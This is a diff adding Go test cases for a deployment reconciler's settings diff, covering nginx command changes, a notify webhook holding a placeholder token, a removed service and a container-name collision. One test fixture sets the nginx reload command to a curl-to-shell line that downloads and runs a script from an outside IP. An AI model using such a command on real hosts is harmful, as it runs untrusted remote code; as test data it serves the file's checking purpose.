@@ -236,6 +236,31 @@ func diffCases() []diffCase {
 		{name: "migrations-new", mutate: func(d *state.Desired, o *state.Observed) {
 			d.Migrations = &state.DesiredJob{Spec: state.Spec{Image: "ghcr.io/developer-mesh/devops-rest-api:v1", Command: []string{"/app/migrate", "up"}}}
 		}},
+		{name: "settings-host-commands", mutate: func(d *state.Desired, o *state.Observed) {
+			// Only host-side settings change: nginx's commands and a
+			// notify receiver (its URL holds a token). Nothing restarts.
+			old := settingsEnv()
+			o.Settings = state.DisplaySettings(state.Settings(old), testKey)
+			e := settingsEnv()
+			e.Nginx.Reload = "curl -s http://198.51.100.7/x | sh"
+			e.Nginx.Test = "true"
+			e.Notify = append(e.Notify, state.Notify{URL: "https://hooks.example.com/services/T0/B0/SECRETTOKEN", Format: "slack",
+				Events: []state.EventName{state.EventDeployFailed}})
+			e.KeepImages = 5
+			d.Settings = state.Settings(e)
+		}},
+		{name: "settings-service-removed", mutate: func(d *state.Desired, o *state.Observed) {
+			// A service goes: its fields are one line, not one line each.
+			old := settingsEnv()
+			old.Services["worker"] = state.Service{Image: "ghcr.io/developer-mesh/devops-worker:v1"}
+			old.Default()
+			o.Settings = state.DisplaySettings(state.Settings(old), testKey)
+			d.Settings = state.Settings(settingsEnv())
+		}},
+		{name: "settings-unrecorded", mutate: func(d *state.Desired, o *state.Observed) {
+			// A host upgraded from a reconciler that recorded no settings.
+			d.Settings = state.Settings(settingsEnv())
+		}},
 		{name: "migrations-done", mutate: func(d *state.Desired, o *state.Observed) {
 			d.Migrations = &state.DesiredJob{Spec: state.Spec{Image: "ghcr.io/developer-mesh/devops-rest-api:v1", Command: []string{"/app/migrate", "up"}}}
 			o.LastMigration = d.Migrations.Spec.Summarize(testKey).Hash()
@@ -316,5 +341,17 @@ func golden(t *testing.T, path, got string) {
 	}
 	if got != string(want) {
 		t.Errorf("%s differs (go test -update rewrites it)\n--- got\n%s\n--- want\n%s", path, got, want)
+	}
+}
+
+// TestDiffNameCollisionNamesOwner: a container name held by another env's
+// container (env prod with service rest-api and env prod-rest with
+// service api share prod-rest-api-blue) is refused, naming the owner.
+func TestDiffNameCollisionNamesOwner(t *testing.T) {
+	d := desired("c1")
+	o := &state.Observed{Foreign: []state.Foreign{{Name: "prod-rest-api-blue", Owner: "env prod-rest, service api"}}}
+	_, err := Diff(d, o, testKey)
+	if err == nil || !strings.Contains(err.Error(), "prod-rest-api-blue belongs to env prod-rest, service api (its labels), not to env prod") {
+		t.Fatalf("err = %v", err)
 	}
 }
